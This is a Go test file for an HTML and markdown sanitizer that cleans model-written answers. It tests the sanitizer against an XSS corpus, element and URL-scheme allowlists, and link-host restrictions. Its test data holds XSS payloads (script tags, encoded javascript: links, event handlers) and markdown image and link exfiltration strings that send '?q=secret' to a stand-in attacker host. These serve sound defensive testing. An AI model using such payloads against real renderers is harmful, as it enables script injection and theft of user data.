package sanitize

import (
	"bufio"
	"bytes"
	"errors"
	"fmt"
	"os"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"unicode/utf8"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// vector is one line of a testdata/xss file.
type vector struct {
	line int
	text string
}

var vectorEscapes = strings.NewReplacer(
	"{{TAB}}", "\t", "{{NL}}", "\n", "{{CR}}", "\r", "{{FF}}", "\f",
	"{{NUL}}", "\x00", "{{SOH}}", "\x01",
)

// loadVectors reads testdata/xss/name: one vector a line, "# " comments
// and blank lines skipped, {{TAB}}-style escapes decoded.
func loadVectors(tb testing.TB, name string) []vector {
	tb.Helper()
	data, err := os.ReadFile("testdata/xss/" + name)
	if err != nil {
		tb.Fatal(err)
	}
	var vs []vector
	sc := bufio.NewScanner(bytes.NewReader(data))
	for n := 1; sc.Scan(); n++ {
		l := sc.Text()
		if l == "" || l == "#" || strings.HasPrefix(l, "# ") {
			continue
		}
		vs = append(vs, vector{n, vectorEscapes.Replace(l)})
	}
	if err := sc.Err(); err != nil {
		tb.Fatal(err)
	}
	return vs
}

// allowedElements is every element an HTMLPolicy may let through, plus
// what the fragment parser adds by itself (tbody in a table).
var allowedElements = map[string]bool{
	"p": true, "br": true, "hr": true, "h1": true, "h2": true, "h3": true,
	"h4": true, "h5": true, "h6": true, "strong": true, "em": true, "b": true,
	"i": true, "del": true, "s": true, "sup": true, "sub": true, "code": true,
	"pre": true, "blockquote": true, "ul": true, "ol": true, "li": true,
	"table": true, "thead": true, "tbody": true, "tr": true, "th": true,
	"td": true, "details": true, "summary": true, "a": true, "img": true,
}

// forbiddenElements are named by the issue; allowedElements already
// excludes them, this list makes the failure message say which rule broke.
var forbiddenElements = map[string]bool{
	"script": true, "style": true, "iframe": true, "object": true,
	"embed": true, "form": true, "input": true, "meta": true, "link": true,
	"base": true, "svg": true, "math": true,
}

var urlAttrs = map[string]bool{
	"href": true, "src": true, "action": true, "formaction": true,
	"xlink:href": true, "srcset": true, "poster": true, "background": true,
	"data": true, "cite": true, "ping": true, "lowsrc": true, "dynsrc": true,
}

var allowedScheme = regexp.MustCompile(`^(?:https?://[^/?#\s]|mailto:)`)

// checkSafeHTML parses out as a browser would for innerHTML of a div and
// returns every broken invariant: an element outside the allowlist or
// among the forbidden ones, an on* or style attribute, a URL attribute
// whose scheme is not http, https or mailto, a link without the forced rel.
func checkSafeHTML(out string) []string {
	var bad []string
	if !utf8.ValidString(out) {
		bad = append(bad, "output is not valid UTF-8")
	}
	ctx := &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div}
	nodes, err := html.ParseFragment(strings.NewReader(out), ctx)
	if err != nil {
		return append(bad, "output does not parse: "+err.Error())
	}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			name := n.Data
			if n.Namespace != "" {
				name = n.Namespace + ":" + n.Data
			}
			switch {
			case forbiddenElements[n.Data] || n.Namespace != "":
				bad = append(bad, "forbidden element <"+name+">")
			case !allowedElements[n.Data]:
				bad = append(bad, "element outside the allowlist <"+name+">")
			}
			for _, a := range n.Attr {
				key := strings.ToLower(a.Key)
				if a.Namespace != "" {
					key = a.Namespace + ":" + key
				}
				switch {
				case strings.HasPrefix(key, "on"):
					bad = append(bad, "event handler "+key+" on <"+name+">")
				case key == "style":
					bad = append(bad, "style attribute on <"+name+">")
				case urlAttrs[key]:
					// What a browser does before it reads the scheme: trim
					// spaces and controls, drop tabs and newlines.
					v := strings.TrimFunc(a.Val, func(r rune) bool { return r <= ' ' })
					v = strings.NewReplacer("\t", "", "\n", "", "\r", "").Replace(v)
					if !allowedScheme.MatchString(strings.ToLower(v)) {
						bad = append(bad, fmt.Sprintf("URL %s=%q on <%s>", key, a.Val, name))
					}
				}
			}
			if n.Data == "a" && hasAttr(n, "href") {
				rel := strings.Fields(attr(n, "rel"))
				for _, want := range []string{"nofollow", "noopener", "noreferrer"} {
					if !slices.Contains(rel, want) {
						bad = append(bad, fmt.Sprintf("link without rel %s: rel=%q", want, attr(n, "rel")))
					}
				}
			}
		}
		for c := range n.ChildNodes() {
			walk(c)
		}
	}
	for _, n := range nodes {
		walk(n)
	}
	return bad
}

func hasAttr(n *html.Node, key string) bool {
	return slices.ContainsFunc(n.Attr, func(a html.Attribute) bool { return a.Key == key })
}

func attr(n *html.Node, key string) string {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

func TestHTMLXSSCorpus(t *testing.T) {
	vs := loadVectors(t, "owasp.txt")
	if len(vs) < 80 {
		t.Fatalf("corpus has %d vectors, want at least 80", len(vs))
	}
	t.Logf("%d vectors", len(vs))
	strict, err := NewHTMLPolicy(HTMLOptions{
		AllowedLinkHosts: []string{"ok.example", "*.docs.example"},
		AllowImages:      true,
		TargetBlank:      true,
	})
	if err != nil {
		t.Fatal(err)
	}
	render := []struct {
		name string
		fn   func(string) (string, error)
	}{
		{"HTML", func(s string) (string, error) { return HTML(s), nil }},
		{"MarkdownToHTML", MarkdownToHTML},
		{"Sanitize/images", func(s string) (string, error) { return strict.Sanitize(s), nil }},
		{"Markdown/images", strict.Markdown},
	}
	for _, r := range render {
		t.Run(r.name, func(t *testing.T) {
			for _, v := range vs {
				out, err := r.fn(v.text)
				if err != nil {
					t.Errorf("line %d: %v", v.line, err)
					continue
				}
				for _, b := range checkSafeHTML(out) {
					t.Errorf("line %d: %s\n in: %q\nout: %q", v.line, b, v.text, out)
				}
				if strings.Contains(r.name, "images") {
					for _, h := range hostsIn(out) {
						h = strings.ToLower(h)
						if h != "ok.example" && !strings.HasSuffix(h, ".docs.example") {
							t.Errorf("line %d: URL to %s kept: %q", v.line, h, out)
						}
					}
				}
			}
		})
	}
}

// hostsIn returns the hosts of every URL attribute in out.
func hostsIn(out string) []string {
	nodes, _ := html.ParseFragment(strings.NewReader(out), &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div})
	var hosts []string
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		for _, a := range n.Attr {
			if urlAttrs[a.Key] {
				if _, rest, ok := strings.Cut(a.Val, "//"); ok {
					hosts = append(hosts, urlHost(rest))
				}
			}
		}
		for c := range n.ChildNodes() {
			walk(c)
		}
	}
	for _, n := range nodes {
		walk(n)
	}
	return hosts
}

// urlHost returns the host of the URL whose text after "//" is rest, as a
// browser reads it: the authority ends at the first '/', '?', '#' or '\',
// the host follows the last '@' in it and ends at a port's ':' (after a
// bracketed IPv6 address).
func urlHost(rest string) string {
	if i := strings.IndexAny(rest, "/?#\\"); i >= 0 {
		rest = rest[:i]
	}
	if i := strings.LastIndexByte(rest, '@'); i >= 0 {
		rest = rest[i+1:]
	}
	if strings.HasPrefix(rest, "[") {
		if i := strings.IndexByte(rest, ']'); i >= 0 {
			return rest[:i+1]
		}
		return rest
	}
	if i := strings.IndexByte(rest, ':'); i >= 0 {
		rest = rest[:i]
	}
	return rest
}

// TestURLHost checks the host reading of the HTML tests.
func TestURLHost(t *testing.T) {
	for in, want := range map[string]string{
		"ok.example": "ok.example", "ok.example/p?q#f": "ok.example", "ok.example#0000": "ok.example",
		"ok.example?x=//evil.example": "ok.example", "user:pw@ok.example:8443/x": "ok.example",
		"ok.example@evil.example/": "evil.example", "evil.example\\@ok.example": "evil.example",
		"[::1]:80/": "[::1]",
	} {
		if got := urlHost(in); got != want {
			t.Errorf("urlHost(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestCheckSafeHTML checks the checker: the raw corpus must break it.
func TestCheckSafeHTML(t *testing.T) {
	for _, in := range []string{
		`<script>x</script>`, `<p onclick=x>a</p>`, `<p style="x">a</p>`,
		`<a href="jav&#x09;ascript:x" rel="nofollow noopener noreferrer">a</a>`,
		`<a href="/rel" rel="nofollow noopener noreferrer">a</a>`,
		`<a href="https://x.example/">no rel</a>`, `<svg><a xlink:href="https://x.example/">a</a></svg>`,
		`<div>a</div>`, `<form action="https://x.example/"></form>`, "\xff",
	} {
		if len(checkSafeHTML(in)) == 0 {
			t.Errorf("checkSafeHTML(%q) found nothing", in)
		}
	}
	flagged, vs := 0, loadVectors(t, "owasp.txt")
	for _, v := range vs {
		if len(checkSafeHTML(v.text)) > 0 {
			flagged++
		}
	}
	// The markdown-only vectors are plain text to an HTML parser.
	if flagged < len(vs)*3/4 {
		t.Errorf("the checker flags %d of %d raw vectors", flagged, len(vs))
	}
	t.Logf("the checker flags %d of %d raw vectors", flagged, len(vs))
}

func TestHTMLPolicySanitize(t *testing.T) {
	const rel = ` rel="nofollow noopener noreferrer"`
	tests := []struct {
		name, in, want string
	}{
		{"script removed with its text", `<p>a<script>alert(1)</script>b</p>`, `<p>ab</p>`},
		{"event handler removed", `<p onclick="x()">a</p>`, `<p>a</p>`},
		{"style attribute removed", `<p style="color:red">a</p>`, `<p>a</p>`},
		{"link kept, rel forced", `<a href="https://go.dev/doc" rel="opener">Go</a>`, `<a href="https://go.dev/doc"` + rel + `>Go</a>`},
		{"mailto kept", `<a href="mailto:a@example.com">m</a>`, `<a href="mailto:a@example.com"` + rel + `>m</a>`},
		{"javascript link keeps text", `<a href="javascript:alert(1)">x</a>`, `x`},
		{"entity-encoded javascript", `<a href="&#106;avascript:alert(1)">x</a>`, `x`},
		{"tab in scheme", "<a href=\"jav\tascript:alert(1)\">x</a>", `x`},
		{"data URL refused", `<a href="data:text/html,hi">x</a>`, `x`},
		{"relative URL refused", `<a href="/path">x</a>`, `x`},
		{"fragment refused", `<a href="#top">x</a>`, `x`},
		{"scheme-relative refused", `<a href="//evil.example/">x</a>`, `x`},
		{"userinfo refused", `<a href="https://docs.example.com@evil.example/">x</a>`, `x`},
		{"image removed by default", `<p>a<img src="https://evil.example/?q=1">b</p>`, `<p>ab</p>`},
		{"iframe removed with content", `<iframe src="https://x.example/">t</iframe>ok`, `ok`},
		{"unknown element keeps text", `<div><span>t</span></div>`, `t`},
		{"code language class kept", `<pre><code class="language-go">x</code></pre>`, `<pre><code class="language-go">x</code></pre>`},
		{"other class removed", `<code class="banner">x</code>`, `<code>x</code>`},
		{"two classes removed", `<code class="language-go banner">x</code>`, `<code>x</code>`},
		{"ol start kept", `<ol start="3"><li>a</li></ol>`, `<ol start="3"><li>a</li></ol>`},
		{"bad ol start removed", `<ol start="x"><li>a</li></ol>`, `<ol><li>a</li></ol>`},
		{"cell align kept", `<table><tr><td align="center" width="9">a</td></tr></table>`, `<table><tr><td align="center">a</td></tr></table>`},
		{"details kept", `<details open><summary>s</summary>d</details>`, `<details><summary>s</summary>d</details>`},
		{"id removed", `<h2 id="x">t</h2>`, `<h2>t</h2>`},
		{"text escaped", `a & b < c`, `a &amp; b &lt; c`},
		{"invalid UTF-8 replaced", "a\xffb", "a\uFFFDb"},
		{"empty", ``, ``},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := HTML(tt.in); got != tt.want {
				t.Errorf("HTML(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
		})
	}
}

// answerMarkdown is a typical LLM answer in markdown.
const answerMarkdown = "## Reading a file in Go\n\n" +
	"Use `os.ReadFile` for small files; see the [os package](https://pkg.go.dev/os).\n\n" +
	"```go\ndata, err := os.ReadFile(\"config.json\")\nif err != nil {\n\treturn err\n}\n```\n\n" +
	"| Function | Use |\n|:---|---:|\n| `os.ReadFile` | small files |\n| `bufio.Scanner` | lines |\n\n" +
	"1. Open the file\n   - check the error\n   - `defer f.Close()`\n2. Read it\n\n" +
	"> **Note:** ~~ioutil.ReadFile~~ is deprecated.\n\n---\n"

func TestMarkdownStructure(t *testing.T) {
	out, err := MarkdownToHTML(answerMarkdown)
	if err != nil {
		t.Fatal(err)
	}
	if bad := checkSafeHTML(out); len(bad) > 0 {
		t.Fatalf("unsafe: %v\n%s", bad, out)
	}
	doc, err := html.Parse(strings.NewReader(out))
	if err != nil {
		t.Fatal(err)
	}
	count := map[string]int{}
	var codeClass, rel, href string
	var nested, th, td, preCode bool
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		count[n.Data]++
		switch n.Data {
		case "code":
			if n.Parent.Data == "pre" {
				preCode = true
				codeClass = attr(n, "class")
			}
		case "a":
			rel, href = attr(n, "rel"), attr(n, "href")
		case "ul":
			nested = nested || n.Parent.Data == "li" && n.Parent.Parent.Data == "ol"
		case "th":
			th = th || n.Parent.Parent.Data == "thead" && attr(n, "align") == "left"
		case "td":
			td = td || attr(n, "align") == "right"
		}
	}
	for _, el := range []string{"h2", "pre", "table", "thead", "tbody", "ol", "ul", "blockquote", "strong", "del", "hr"} {
		if count[el] == 0 {
			t.Errorf("no <%s> in output", el)
		}
	}
	if count["li"] != 4 {
		t.Errorf("%d <li>, want 4", count["li"])
	}
	if count["code"] < 4 {
		t.Errorf("%d <code>, want at least 4 (block and inline)", count["code"])
	}
	if !preCode || codeClass != "language-go" {
		t.Errorf("pre>code class = %q (found %v), want language-go", codeClass, preCode)
	}
	if !th || !td {
		t.Errorf("table cells lost their alignment: th %v td %v", th, td)
	}
	if !nested {
		t.Error("the ul is not nested in the ol's li")
	}
	if href != "https://pkg.go.dev/os" || rel != "nofollow noopener noreferrer" {
		t.Errorf("link href=%q rel=%q", href, rel)
	}
}

func TestMarkdownRawHTMLNotRendered(t *testing.T) {
	out, err := MarkdownToHTML("Hi <b onclick=x()>there</b>\n\n<div>\n<script>alert(1)</script>\n</div>\n\n`<script>`\n")
	if err != nil {
		t.Fatal(err)
	}
	want := "<p>Hi there</p>\n\n<p><code>&lt;script&gt;</code></p>\n"
	if out != want {
		t.Errorf("got %q\nwant %q", out, want)
	}
}

func TestMarkdownExfiltration(t *testing.T) {
	p, err := NewHTMLPolicy(HTMLOptions{AllowedLinkHosts: []string{"docs.example.com"}})
	if err != nil {
		t.Fatal(err)
	}
	for _, md := range []string{
		"![x](https://evil.example/?q=secret)",
		"Here: ![x](https://evil.example/?q=secret) and [docs](https://docs.example.com/a)",
		"[x](https://evil.example/?q=secret)",
		"<https://evil.example/?q=secret>",
		"[x][r]\n\n[r]: https://evil.example/?q=secret",
		"[x](https://docs.example.com@evil.example/?q=secret)",
		"[x](mailto:me@evil.example?body=secret)",
		"[x](mailto:me@docs.example.com?cc=me@evil.example)",
		"<img src=\"https://evil.example/?q=secret\">",
	} {
		out, err := p.Markdown(md)
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(out, "<img") || strings.Contains(out, "evil.example") && strings.Contains(out, "href") {
			t.Errorf("Markdown(%q) = %q: image or link to evil.example kept", md, out)
		}
		if bad := checkSafeHTML(out); len(bad) > 0 {
			t.Errorf("Markdown(%q): %v", md, bad)
		}
	}
	out, _ := p.Markdown("![x](https://evil.example/?q=secret)")
	if strings.Contains(out, "evil") || strings.Contains(out, "secret") {
		t.Errorf("the image left a trace: %q", out)
	}
	out, _ = p.Markdown("[docs](https://docs.example.com/a) [x](https://evil.example/)")
	want := `<p><a href="https://docs.example.com/a" rel="nofollow noopener noreferrer">docs</a> x</p>` + "\n"
	if out != want {
		t.Errorf("got %q\nwant %q", out, want)
	}
}

func TestHTMLPolicyHosts(t *testing.T) {
	p, err := NewHTMLPolicy(HTMLOptions{
		AllowedLinkHosts: []string{"Docs.Example.com.", "*.cdn.example"},
		AllowImages:      true,
	})
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		in   string
		kept bool
	}{
		{`<a href="https://docs.example.com/x">t</a>`, true},
		{`<a href="HTTPS://DOCS.EXAMPLE.COM:8443/x">t</a>`, true},
		{`<a href="https://docs.example.com./x">t</a>`, true},
		{`<a href="http://docs.example.com/x">t</a>`, true},
		{`<a href="https://sub.docs.example.com/x">t</a>`, false},
		{`<a href="https://docs.example.com.evil.example/x">t</a>`, false},
		{`<a href="https://a.cdn.example/x">t</a>`, true},
		{`<a href="https://a.b.cdn.example/x">t</a>`, true},
		{`<a href="https://cdn.example/x">t</a>`, false},
		{`<a href="https://evilcdn.example/x">t</a>`, false},
		{`<a href="mailto:help@docs.example.com">t</a>`, true},
		{`<a href="mailto:help@docs.example.com,x@evil.example">t</a>`, false},
		{`<a href="mailto:help@docs.example.com?body=secret">t</a>`, false},
		{`<a href="mailto:help@evil.example">t</a>`, false},
		{`<img src="https://a.cdn.example/i.png">`, true},
		{`<img src="https://evil.example/i.png">`, false},
		{`<img src="mailto:x@docs.example.com">`, false},
		{`<img src="data:image/png;base64,iVBORw0KGgo=">`, false},
		{`<img src="//a.cdn.example/i.png">`, false},
	}
	for _, tt := range tests {
		out := p.Sanitize(tt.in)
		kept := strings.Contains(out, "href=") || strings.Contains(out, "src=")
		if kept != tt.kept {
			t.Errorf("Sanitize(%q) = %q; URL kept %v, want %v", tt.in, out, kept, tt.kept)
		}
	}
}

func TestHTMLPolicyOptions(t *testing.T) {
	p, err := NewHTMLPolicy(HTMLOptions{TargetBlank: true, AllowClasses: regexp.MustCompile(`language-\w+|mermaid`)})
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct{ in, want string }{
		{`<a href="https://go.dev" target="_top">Go</a>`, `<a href="https://go.dev" rel="nofollow noopener noreferrer" target="_blank">Go</a>`},
		{`<code class="mermaid">x</code>`, `<code class="mermaid">x</code>`},
		{`<code class="mermaid x">x</code>`, `<code>x</code>`},
		{`<code class="language-c++">x</code>`, `<code>x</code>`},
	}
	for _, tt := range tests {
		if got := p.Sanitize(tt.in); got != tt.want {
			t.Errorf("Sanitize(%q)\n got %q\nwant %q", tt.in, got, tt.want)
		}
	}
}

func TestNewHTMLPolicyErrors(t *testing.T) {
	tests := []struct {
		name string
		opts HTMLOptions
		want []string // substrings of the error
	}{
		{"scheme", HTMLOptions{AllowedLinkHosts: []string{"https://docs.example.com"}}, []string{`"https://docs.example.com"`}},
		{"port and path", HTMLOptions{AllowedLinkHosts: []string{"a.example:443", "a.example/x", ""}}, []string{`"a.example:443"`, `"a.example/x"`, `""`}},
		{"bare wildcard", HTMLOptions{AllowedLinkHosts: []string{"*", "*.", "a.*.example"}}, []string{`"*"`, `"*."`, `"a.*.example"`}},
		{"unicode", HTMLOptions{AllowedLinkHosts: []string{"bücher.example"}}, []string{"bücher"}},
		{"images without hosts", HTMLOptions{AllowImages: true}, []string{"AllowImages needs AllowedLinkHosts"}},
		{"every mistake at once", HTMLOptions{AllowImages: true, AllowedLinkHosts: []string{"a b"}}, []string{`"a b"`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p, err := NewHTMLPolicy(tt.opts)
			if err == nil || p != nil {
				t.Fatalf("NewHTMLPolicy = %v, %v; want an error", p, err)
			}
			for _, w := range tt.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q does not name %q", err, w)
				}
			}
			if !strings.HasPrefix(err.Error(), "sanitize: ") {
				t.Errorf("error %q lacks the package prefix", err)
			}
		})
	}
	if _, err := NewHTMLPolicy(HTMLOptions{AllowedLinkHosts: []string{"a.example", "*.b.example", "10.0.0.1"}}); err != nil {
		t.Errorf("valid hosts refused: %v", err)
	}
}

func TestHTMLPolicyOptionsNotRetained(t *testing.T) {
	hosts := []string{"docs.example.com"}
	p, err := NewHTMLPolicy(HTMLOptions{AllowedLinkHosts: hosts})
	if err != nil {
		t.Fatal(err)
	}
	hosts[0] = "evil.example"
	if out := p.Sanitize(`<a href="https://evil.example/">x</a>`); out != "x" {
		t.Errorf("policy follows a change to the caller's slice: %q", out)
	}
}

func TestHTMLPolicyConcurrent(t *testing.T) {
	p, err := NewHTMLPolicy(HTMLOptions{AllowedLinkHosts: []string{"pkg.go.dev"}, AllowImages: true})
	if err != nil {
		t.Fatal(err)
	}
	want, _ := p.Markdown(answerMarkdown)
	var wg sync.WaitGroup
	errs := make(chan error, 16)
	for range 8 {
		wg.Go(func() {
			for range 20 {
				if got, _ := p.Markdown(answerMarkdown); got != want {
					errs <- errors.New("Markdown differs under concurrency")
					return
				}
				if got, _ := MarkdownToHTML(answerMarkdown); !strings.Contains(got, "<table>") {
					errs <- errors.New("MarkdownToHTML lost its table under concurrency")
					return
				}
			}
		})
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
}

func TestHTMLIdempotent(t *testing.T) {
	for _, v := range loadVectors(t, "owasp.txt") {
		once := HTML(v.text)
		if twice := HTML(once); twice != once {
			t.Errorf("line %d: not idempotent\n once %q\ntwice %q", v.line, once, twice)
		}
	}
}

// benchInputs returns a markdown answer of about 4 KB (answerMarkdown
// repeated) and an HTML answer of about 4 KB (answerMarkdown rendered
// without sanitizing, repeated: what a model that writes HTML sends).
func benchInputs(b *testing.B) (md, raw string) {
	const unit = answerMarkdown + "\nSee <https://go.dev/doc/effective_go> for *more*.\n\n"
	var buf bytes.Buffer
	if err := defaultHTMLPolicy().md.Convert([]byte(unit), &buf); err != nil {
		b.Fatal(err)
	}
	rawUnit := buf.String()
	md = strings.Repeat(unit, (4096+len(unit)-1)/len(unit))
	raw = strings.Repeat(rawUnit, (4096+len(rawUnit)-1)/len(rawUnit))
	return md, raw
}

func BenchmarkHTMLSanitize(b *testing.B) {
	_, raw := benchInputs(b)
	p := defaultHTMLPolicy()
	b.ReportAllocs()
	b.SetBytes(int64(len(raw)))
	for b.Loop() {
		p.Sanitize(raw)
	}
}

func BenchmarkHTMLMarkdown(b *testing.B) {
	md, _ := benchInputs(b)
	p := defaultHTMLPolicy()
	b.ReportAllocs()
	b.SetBytes(int64(len(md)))
	for b.Loop() {
		if _, err := p.Markdown(md); err != nil {
			b.Fatal(err)
		}
	}
}
